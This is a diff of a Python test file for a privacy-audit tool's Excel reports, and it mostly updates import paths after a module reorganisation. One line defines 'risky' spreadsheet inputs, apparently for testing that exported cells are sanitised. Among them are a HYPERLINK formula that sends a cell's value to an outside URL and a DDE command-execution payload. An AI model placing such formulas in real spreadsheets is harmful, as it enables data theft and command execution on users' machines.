@@ -16,10 +16,10 @@ import pytest
 from bench import make_firm, request, write_register
 from openpyxl.utils import get_column_letter
 from privacy_audit.control import SEVERITIES
-from privacy_audit.reports.excel import excel
-from privacy_audit.reports.excel_book import Book
-from privacy_audit.reports.excel_cells import LONGEST, cleaned
-from privacy_audit.reports.excel_tasks import OWN, STATES
+from privacy_audit.reports.excel.book import Book
+from privacy_audit.reports.excel.cells import LONGEST, cleaned
+from privacy_audit.reports.excel.firm import excel
+from privacy_audit.reports.excel.tasks import OWN, STATES
 from privacy_audit.reports.jsonfile import findings_json
 from privacy_audit.reports.screen import SIGNS
 from privacy_audit.request import ROOT
@@ -30,9 +30,9 @@ LAPTOP = (1366 - 26, 467)  # points on the screen that Excel leaves for cells on
 RISKY = ['=HYPERLINK("http://example.com/?x="&A1,"Pay")', "=cmd|'/c calc'!A1", "+44 20 7946 0000", "-2+3"]
 HASHES = """
 import hashlib
-from privacy_audit.reports.excel import excel
-from privacy_audit.reports.excel_accountant import accountant_xlsx
-from privacy_audit.reports.excel_insurer import insurer_xlsx
+from privacy_audit.reports.excel.firm import excel
+from privacy_audit.reports.excel.accountant import accountant_xlsx
+from privacy_audit.reports.excel.insurer import insurer_xlsx
 from privacy_audit.request import Request
 from privacy_audit.result import audit
 result = audit(Request.of(quarter="2026-Q3"))
